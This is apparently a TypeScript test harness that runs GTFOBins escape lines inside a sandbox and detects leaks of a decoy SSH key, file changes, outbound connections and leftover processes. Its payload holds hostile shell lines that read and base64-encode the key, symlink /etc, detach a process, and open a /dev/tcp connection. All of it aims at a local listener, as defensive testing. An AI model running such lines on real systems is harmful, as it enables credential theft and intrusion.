import { spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { once } from 'node:events';
import {
  chmodSync,
  chownSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import type { AddressInfo, Server } from 'node:net';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { account, reeve } from '../floor/floored-session.ts';
import { HookGateway } from '../hooks/hook-gateway.ts';
import type { GtfobinsLine } from './gtfobins.ts';

/** A line that waits for a person is ended. */
const secondsOfLine = 2;

/** A home with a secret, a folder that everybody may write to, and a port: whoever leaves the floor shows at one of them. */
export class FloorTrap implements AsyncDisposable {
  readonly #gateway: HookGateway;
  readonly #server: Server;
  readonly #home: string;
  readonly #open: string;
  readonly #secret = randomBytes(24).toString('hex');
  #before: ReadonlyMap<string, string>;
  #connections = 0;
  #said = '';

  private constructor(gateway: HookGateway, server: Server) {
    this.#gateway = gateway;
    this.#server = server;
    server.on('connection', (socket) => {
      this.#connections++;
      socket.destroy();
    });
    this.#home = realpathSync(mkdtempSync(join(tmpdir(), 'reeve-trap-')));
    this.#open = realpathSync(mkdtempSync(join(tmpdir(), 'reeve-open-')));
    chmodSync(this.#home, 0o755);
    for (const folder of ['.ssh', '.reeve', 'beside']) mkdirSync(join(this.#home, folder), { mode: 0o700 });
    writeFileSync(join(this.#home, '.ssh/id_rsa'), `-----BEGIN PRIVATE KEY-----\n${this.#secret}\n`);
    for (const name of ['beside/file', '.reeve/file']) writeFileSync(join(this.#home, name), 'as it was\n');
    const names = readdirSync(this.#home, { recursive: true, encoding: 'utf8' });
    for (const name of ['.', ...names]) give(join(this.#home, name));
    chmodSync(this.#open, 0o777);
    this.#before = this.#outside();
  }

  static async set(): Promise<FloorTrap> {
    const gateway = await HookGateway.start({ 'house.yaml': 'name: house\ndefault: allow\n' });
    const server = createServer().listen(0, '127.0.0.1');
    await once(server, 'listening');
    return new FloorTrap(gateway, server);
  }

  /** Runs lines on one floor. Returns how many ran. */
  async run(lines: readonly GtfobinsLine[]): Promise<number> {
    const project = join(this.#home, 'project');
    rmSync(project, { recursive: true, force: true });
    mkdirSync(project);
    mkdirSync(join(project, 'temp-dir'));
    for (const [at, { code }] of lines.entries()) writeFileSync(join(project, `line-${at}`), this.#filled(code));
    writeFileSync(join(project, 'payload'), this.#payload());
    for (const name of ['.', ...readdirSync(project)]) give(join(project, name));
    // A line may end all that it can reach, so each says at once that it has begun.
    const each = `echo began >> ../project/began; timeout -k 1 ${secondsOfLine} sh "$0" < payload 2>&1`;
    const all = lines.map((_, at) => `sh -c '${each}' ./line-${at}`).join('\n');
    const child = spawn(reeve, ['run', '--grace', '1', '--', 'sh', '-c', all], {
      ...account,
      cwd: project,
      env: { PATH: process.env['PATH'], HOME: this.#home, USER: 'ada', TERM: 'dumb', ...this.#gateway.env('ada') },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const chunks: Buffer[] = [];
    for (const stream of [child.stdout, child.stderr]) stream.on('data', (chunk: Buffer) => chunks.push(chunk));
    await once(child, 'close');
    this.#said = Buffer.concat(chunks).toString('latin1');
    return wordsIn(join(project, 'began'));
  }

  /** What has left the floor since the last time. */
  caught(): readonly string[] {
    const found: string[] = [];
    const now = this.#outside();
    const paths = new Set([...this.#before.keys(), ...now.keys()]);
    const changed = [...paths].filter((path) => this.#before.get(path) !== now.get(path));
    if (changed.length > 0) found.push(`${changed.join(', ')} changed`);
    this.#before = now;
    if (this.#forms.some((form) => this.#said.includes(form))) found.push('the key was printed');
    if (this.#isInProject()) found.push('the key was written to the working folder');
    if (this.#connections > 0) found.push(`${this.#connections} connections came out`);
    const left = processesIn(this.#home);
    if (left.length > 0) found.push(`processes were left: ${left.join()}`);
    this.#connections = 0;
    return found;
  }

  /** What a shell does that a line opens. */
  #payload(): string {
    const { port } = this.#server.address() as AddressInfo;
    return `cat ${this.#home}/.ssh/id_rsa
base64 ${this.#home}/.ssh/id_rsa
echo changed > ${this.#home}/beside/file
echo changed > ${this.#home}/.reeve/file
echo changed > ${this.#open}/file
ln -s /etc ${this.#open}/link
setsid sleep 600 >/dev/null 2>&1 &
bash -c 'echo hello > /dev/tcp/127.0.0.1/${port}'
exit 0
`;
  }

  /** The places that lines leave open. */
  #filled(code: string): string {
    const { port } = this.#server.address() as AddressInfo;
    return code
      .replaceAll('/path/to/input-file', `${this.#home}/.ssh/id_rsa`)
      .replaceAll(/\/path\/to\/input-dir\/?/g, `${this.#home}/.ssh/`)
      .replaceAll(/\/path\/to\/ou?t?put-(?:file|dir)/g, `${this.#home}/beside/file`)
      .replaceAll('/path/to/command', `sh ${this.#home}/project/payload`)
      .replaceAll('/path/to/temp-', `${this.#home}/project/temp-`)
      .replaceAll('/path/to/', `${this.#home}/project/`)
      .replaceAll('attacker.com', '127.0.0.1')
      .replaceAll('12345', String(port));
  }

  /** The key, and what programs make of it that print in other forms. */
  get #forms(): readonly string[] {
    const bytes = Buffer.from(this.#secret);
    const base64 = [0, 1, 2].map((at) => bytes.subarray(at).toString('base64').slice(0, 32));
    return [this.#secret, bytes.toString('hex'), ...base64];
  }

  #isInProject(): boolean {
    const texts = filesIn(join(this.#home, 'project')).map((path) => readFileSync(path, 'latin1'));
    return texts.some((text) => this.#forms.some((form) => text.includes(form)));
  }

  /** What is where it was: names, contents, owners, modes and times. The working folder, and what Reeve itself writes, are no part of it. */
  #outside(): ReadonlyMap<string, string> {
    const names = readdirSync(this.#home).filter((name) => name !== 'project' && name !== '.reeve');
    const roots = [...[...names, '.reeve/file'].map((name) => join(this.#home, name)), this.#open];
    return new Map(roots.flatMap(toldOf));
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#server.close();
    await this.#gateway[Symbol.asyncDispose]();
    for (const folder of [this.#home, this.#open]) rmSync(folder, { recursive: true, force: true });
  }
}

function give(path: string): void {
  if (account.uid !== undefined) chownSync(path, account.uid, account.gid);
}

/** All that is at a path and below it, with a text that changes if it does. */
function toldOf(path: string): readonly (readonly [string, string])[] {
  const stats = lstatSync(path);
  const { mode, uid, mtimeMs, ctimeMs, nlink } = stats;
  const content = stats.isFile() ? createHash('sha256').update(readFileSync(path)).digest('hex') : '';
  const below = stats.isDirectory() ? readdirSync(path).toSorted() : [];
  return [
    [path, JSON.stringify([mode, uid, mtimeMs, ctimeMs, nlink, content])],
    ...below.flatMap((name) => toldOf(join(path, name))),
  ];
}

/** The plain files below a folder, as far as they can be read at once. */
function filesIn(folder: string): readonly string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name))
    .filter((path) => statSync(path).size < 50_000_000);
}

function wordsIn(path: string): number {
  return readFileSync(path, 'utf8').split('\n').filter(Boolean).length;
}

/** Processes of the person whose working folder is within the home. */
function processesIn(home: string): readonly string[] {
  return readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .filter((pid) => cwdOf(pid).startsWith(home));
}

function cwdOf(pid: string): string {
  try {
    return realpathSync(`/proc/${pid}/cwd`);
  } catch {
    return '';
  }
}
